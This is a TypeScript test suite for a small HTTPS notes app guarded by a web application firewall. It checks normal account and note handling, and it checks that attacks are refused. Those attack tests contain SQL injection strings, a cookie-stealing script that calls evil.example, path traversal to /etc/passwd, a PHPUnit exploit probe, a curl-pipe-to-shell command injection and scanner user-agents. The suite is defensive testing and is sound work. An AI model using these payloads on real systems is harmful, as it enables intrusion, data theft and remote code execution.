/** The application over HTTPS, used as it is meant to be and attacked as it will be. */
import { once } from 'node:events';
import { createServer, request as ask } from 'node:https';
import type { IncomingMessage } from 'node:http';
import { mkdtempSync, rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import type { Guard } from '@netsentinel/guard';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { createApp } from './app/app.ts';
import { ownCertificate } from './app/certificate.ts';
import { Database } from './app/database.ts';
import { protection } from './protection.ts';

const folder = mkdtempSync(join(tmpdir(), 'netsentinel-webapp-'));
let tls: { cert: string; key: string };
let database: Database;
let guard: Guard;
let server: ReturnType<typeof createServer>;
beforeAll(() => {
  tls = ownCertificate(folder);
});
afterAll(() => rmSync(folder, { recursive: true }));
beforeEach(async () => {
  vi.spyOn(process.stdout, 'write').mockReturnValue(true);
  database = new Database(':memory:');
  guard = protection({});
  server = createServer(tls, createApp({ database, guard })).listen(0, '127.0.0.1');
  await once(server, 'listening');
});
afterEach(async () => {
  server.closeAllConnections();
  server.close();
  database.close();
  await guard.close();
  vi.restoreAllMocks();
});

interface Asked {
  readonly status: number;
  readonly headers: IncomingMessage['headers'];
  readonly body: string;
}
let cookie = '';
async function visit(
  path: string,
  form?: Record<string, string>,
  headers: Record<string, string> = {},
): Promise<Asked> {
  const { port } = server.address() as AddressInfo;
  const asked = ask({
    host: '127.0.0.1',
    port,
    path,
    // The certificate is checked: it is its own authority.
    ca: tls.cert,
    servername: 'localhost',
    agent: false,
    method: form === undefined ? 'GET' : 'POST',
    headers: {
      cookie,
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0',
      ...(form === undefined ? {} : { 'content-type': 'application/x-www-form-urlencoded' }),
      ...headers,
    },
  });
  asked.end(form === undefined ? undefined : new URLSearchParams(form).toString());
  const [response] = (await once(asked, 'response')) as [IncomingMessage];
  return { status: response.statusCode!, headers: response.headers, body: await text(response) };
}

async function signUp(name: string): Promise<{ csrf: string; page: Asked }> {
  cookie = '';
  const made = await visit('/register', { name, password: 'a long enough one', website: '' });
  expect(made.status).toBe(303);
  cookie = made.headers['set-cookie']![0]!.split(';')[0]!;
  const page = await visit('/notes');
  return { page, csrf: /name="csrf" value="([^"]+)"/.exec(page.body)![1]! };
}

it('its certificate is made once', () => {
  expect(ownCertificate(folder)).toEqual(tls);
});

describe('used as it is meant to be', () => {
  it('keeps the notes of each account for itself', async () => {
    const ann = await signUp('ann');
    expect((await visit('/notes', { csrf: ann.csrf, title: 'Shopping', text: 'Milk & "bread" <3' })).status).toBe(303);
    expect((await visit('/notes', { csrf: ann.csrf, title: '100 % done', text: '' })).status).toBe(303);
    const annsCookie = cookie;
    const { body } = await visit('/notes?q=shop');
    expect(body).toContain('<h2>Shopping</h2>');
    expect(body).toContain('<p>Milk &amp; &quot;bread&quot; &lt;3</p>');
    expect(body).not.toContain('done');
    expect((await visit('/notes?q=%25')).body).not.toContain('Shopping');
    const bob = await signUp('bob');
    expect((await visit('/notes')).body).not.toContain('Shopping');
    expect((await visit('/notes/1/delete', { csrf: bob.csrf })).status).toBe(404);
    cookie = annsCookie;
    expect((await visit('/notes/1/delete', { csrf: ann.csrf })).status).toBe(303);
    expect((await visit('/notes')).body).not.toContain('Shopping');
    expect((await visit('/logout', { csrf: ann.csrf })).status).toBe(303);
    expect((await visit('/notes')).headers.location).toBe('/login');
  });

  it('knows passwords, and says no more than that one was wrong', async () => {
    await signUp('ann');
    cookie = '';
    const wrong = await visit('/login', { name: 'ann', password: 'another long one' });
    const nobody = await visit('/login', { name: 'nobody', password: 'another long one' });
    expect([wrong.status, nobody.status, nobody.body === wrong.body]).toEqual([401, 401, true]);
    const right = await visit('/login', { name: 'ann', password: 'a long enough one' });
    expect(right.headers['set-cookie']![0]).toMatch(
      /^__Host-session=[\w-]{43}; Path=\/; HttpOnly; Secure; SameSite=Lax$/,
    );
    expect(right.headers['x-powered-by']).toBeUndefined();
    expect(right.headers['content-security-policy']).toContain("default-src 'none'");
  });

  it('refuses what is not valid, forged or unknown', async () => {
    const { csrf } = await signUp('ann');
    expect(await visit('/register', { name: 'x', password: 'short' })).toMatchObject({ status: 400 });
    expect((await visit('/register', { name: 'ann', password: 'a long enough one' })).status).toBe(409);
    expect((await visit('/notes', { csrf: 'forged', title: 'a', text: '' })).status).toBe(403);
    expect((await visit('/notes', { csrf, title: '', text: '' })).status).toBe(400);
    expect((await visit('/nothing')).status).toBe(404);
    cookie = '';
    expect((await visit('/notes', { csrf, title: 'a', text: '' })).status).toBe(401);
  });

  it('tells a visitor nothing of its own failures', async () => {
    await signUp('ann');
    vi.spyOn(database, 'notes').mockImplementation(() => {
      throw new Error('disk I/O error in note_account');
    });
    const failed = await visit('/notes');
    expect(failed.status).toBe(500);
    expect(failed.body).toContain('Something went wrong on our side.');
    expect(failed.body).not.toContain('disk');
  });
});

describe('attacked', () => {
  it.each([
    ['SQL injection in a search', '/notes?q=1%27%20UNION%20SELECT%20name,password%20FROM%20account--%20-', undefined],
    ['a blind one', '/notes?q=1%27%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20-', undefined],
    ['at the login', '/login', { name: "admin' OR '1'='1' -- -", password: 'x' }],
    [
      'a script in a note',
      '/notes',
      { title: '<script>fetch("//evil.example/?c="+document.cookie)</script>', text: '' },
    ],
    ['files of the system', '/static/..%2f..%2f..%2fetc%2fpasswd', undefined],
    ['a known hole', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', { a: '<?php echo md5(1);' }],
    ['a command', '/notes?q=%24(curl%20http%3A%2F%2F203.0.113.1%2Fx%7Csh)', undefined],
  ])('%s is refused', async (_, path, form) => {
    cookie = '';
    expect(await visit(path, form)).toMatchObject({ status: 403, body: 'This request was refused.\n' });
  });

  it.each(['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Fuzz Faster U Fool v1.1.0', 'Mozilla/5.00 (Nikto/2.1.6)'])(
    'a tool that calls itself %s is refused',
    async (agent) => {
      expect((await visit('/notes', undefined, { 'user-agent': agent })).status).toBe(403);
    },
  );

  it('passwords cannot be guessed by the thousand', async () => {
    cookie = '';
    vi.spyOn(database, 'account').mockReturnValue(undefined);
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++) statuses.push((await visit('/login', { name: 'ann', password: `guess ${i}` })).status);
    expect(statuses.slice(-2)).toEqual([429, 429]);
    expect((await visit('/login', { name: 'ann', password: 'another guess' })).headers['retry-after']).toMatch(/^\d+$/);
  });

  it('decoys are on its pages and answer, and a filled decoy field makes no account', async () => {
    cookie = '';
    const { body } = await visit('/register');
    expect(body).toContain('name="website" value="" tabindex="-1"');
    expect(body).toContain('href="/wp-login.php" rel="nofollow" hidden');
    expect((await visit('/wp-login.php')).body).toContain('<h1>Administration</h1>');
    expect(
      (await visit('/register', { name: 'bot', password: 'a long enough one', website: 'http://x.example' })).status,
    ).toBe(403);
    expect(database.account('bot')).toBeUndefined();
    expect(guard.status().requests).toMatchObject({ honeytoken: 2 });
  });
});
